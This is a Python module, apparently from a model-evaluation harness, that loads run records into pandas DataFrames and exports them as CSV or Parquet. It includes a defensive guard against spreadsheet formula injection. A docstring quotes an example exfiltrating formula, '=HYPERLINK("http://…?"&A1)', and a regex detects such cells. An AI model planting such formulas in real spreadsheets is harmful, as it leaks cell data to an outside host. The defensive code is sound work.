"""A run for analysts: `harness.load_run(path)` gives the record as typed objects and as
pandas DataFrames (items, responses, scores, metric rows), read through the record's
models like every other reader; `harness report RUN --format csv|parquet` writes the same
tables to files.
"""

from __future__ import annotations

from dataclasses import dataclass
from functools import cached_property
from pathlib import Path
from typing import TYPE_CHECKING, Any

from harness.record import Manifest, RequestLine, ResponseLine, ScoreLine, iter_lines, parse_manifest
from harness.store import MANIFEST, REQUESTS, RESPONSES, SCORES, read_manifest

if TYPE_CHECKING:
    import pandas as pd

TABLES = ("items", "responses", "scores", "metrics")


@dataclass
class Run:
    """One run record. The typed lines are read on first use; the DataFrames are built from them."""

    path: Path
    manifest: Manifest

    @cached_property
    def response_lines(self) -> list[ResponseLine]:
        return list(iter_lines(self.path / RESPONSES, ResponseLine))

    @cached_property
    def score_lines(self) -> list[ScoreLine]:
        return list(iter_lines(self.path / SCORES, ScoreLine))

    @cached_property
    def request_lines(self) -> list[RequestLine]:
        path = self.path / REQUESTS
        return list(iter_lines(path, RequestLine)) if path.exists() else []

    @cached_property
    def scorecard(self) -> dict[str, Any]:
        """The scorecard recomputed from the record (what every report shows)."""
        from harness.metrics import build_scorecard

        return build_scorecard(self.path)

    def responses(self) -> pd.DataFrame:
        """One row per task × adapter × item × repeat: output, status, latency, tokens, cost, energy."""
        import pandas as pd

        rows = [line.model_dump(exclude={"attempts", "segments"}) for line in self.response_lines]
        for row, line in zip(rows, self.response_lines, strict=True):
            row["attempts"] = len(line.attempts)
        return pd.DataFrame(rows)

    def scores(self) -> pd.DataFrame:
        """One row per task × adapter × item × repeat, one column per recorded value (corpus
        statistics such as `bleu#0` included); the scorers' details stay in `score_lines`."""
        import pandas as pd

        rows = []
        for line in self.score_lines:
            row = {k: v for k, v in line.model_dump(exclude={"values", "details"}).items()}
            row.update(line.values)
            rows.append(row)
        return pd.DataFrame(rows)

    def items(self) -> pd.DataFrame:
        """Each task × item once: id, task, cluster, subgroup."""
        frame = self.scores()
        if frame.empty:
            return frame
        columns = [c for c in ("task", "item_id", "cluster", "subgroup") if c in frame.columns]
        return frame[columns].drop_duplicates(subset=["task", "item_id"]).reset_index(drop=True)

    def metrics(self) -> pd.DataFrame:
        """The scorecard's rows: task, adapter, metric, value, 95% CI, n, CI method."""
        import pandas as pd

        return pd.DataFrame(self.scorecard["rows"])

    def table(self, name: str) -> pd.DataFrame:
        if name not in TABLES:
            raise KeyError(f"unknown table {name!r}; expected one of {', '.join(TABLES)}")
        frame: pd.DataFrame = getattr(self, name)()
        return frame


def load_run(path: str | Path) -> Run:
    """Open a run record (a folder with manifest.json); ConfigError for a folder that is not
    a run, RecordError for a damaged or newer record."""
    path = Path(path)
    return Run(path, parse_manifest(read_manifest(path), str(path / MANIFEST)))


#: what a spreadsheet reads as the start of a formula (OWASP "CSV injection")
_FORMULA_START = r"^[=+\-@\t\r]"


def _spreadsheet_safe(frame: pd.DataFrame) -> pd.DataFrame:
    """Text cells that a spreadsheet would run as a formula (a model's answer
    '=HYPERLINK("http://…?"&A1)' opened by a committee in Excel) start with a quote, which
    shows them as text. Numbers, negative ones included, are columns of numbers: untouched."""
    from pandas.api.types import is_bool_dtype, is_numeric_dtype

    frame = frame.copy()
    for column in frame.columns:
        values = frame[column]
        if is_numeric_dtype(values) or is_bool_dtype(values):
            continue
        try:  # vectorized: a lambda a cell took 3.7 s for a million responses, 3x the CSV writing
            formula = values.str.match(_FORMULA_START, na=False).astype(bool)
        except AttributeError:  # a column without text (ids as numbers, all empty)
            continue
        if formula.any():
            frame[column] = values.where(~formula, "'" + values.astype(str))
    return frame


#: left in a folder of tables, so that writing them again there overwrites nothing else
TABLES_MARKER = ".harness-tables"


def export_tables(run: Run, folder: Path, fmt: str) -> list[Path]:
    """Write items, responses, scores and metrics as CSV or Parquet files in `folder`: a new
    or empty folder, or one this function wrote before (ConfigError otherwise: a user's own
    `responses.csv` there was overwritten). CSV text that a spreadsheet would run as a
    formula starts with a quote (Parquet keeps it as written)."""
    from harness.errors import ConfigError, Problem

    expected = "a new or empty folder, or one this command wrote before"
    if folder.exists() and not folder.is_dir():
        raise ConfigError([Problem(str(folder), "--out", "not a folder", expected=expected)])
    present = sorted(p.name for p in folder.iterdir()) if folder.exists() else []
    if present and TABLES_MARKER not in present:
        listed = ", ".join(present[:5]) + (", ..." if len(present) > 5 else "")
        raise ConfigError([Problem(str(folder), "--out", f"holds files this command did not write ({listed})",
                                   expected=expected)])
    folder.mkdir(parents=True, exist_ok=True)
    (folder / TABLES_MARKER).write_text(f"tables of the run {run.path}, written by `harness report`\n",
                                        encoding="utf-8")
    written = []
    for name in TABLES:
        frame = run.table(name)
        target = folder / f"{name}.{fmt}"
        if fmt == "csv":
            _spreadsheet_safe(frame).to_csv(target, index=False)
        else:
            frame.to_parquet(target, index=False)
        written.append(target)
    return written
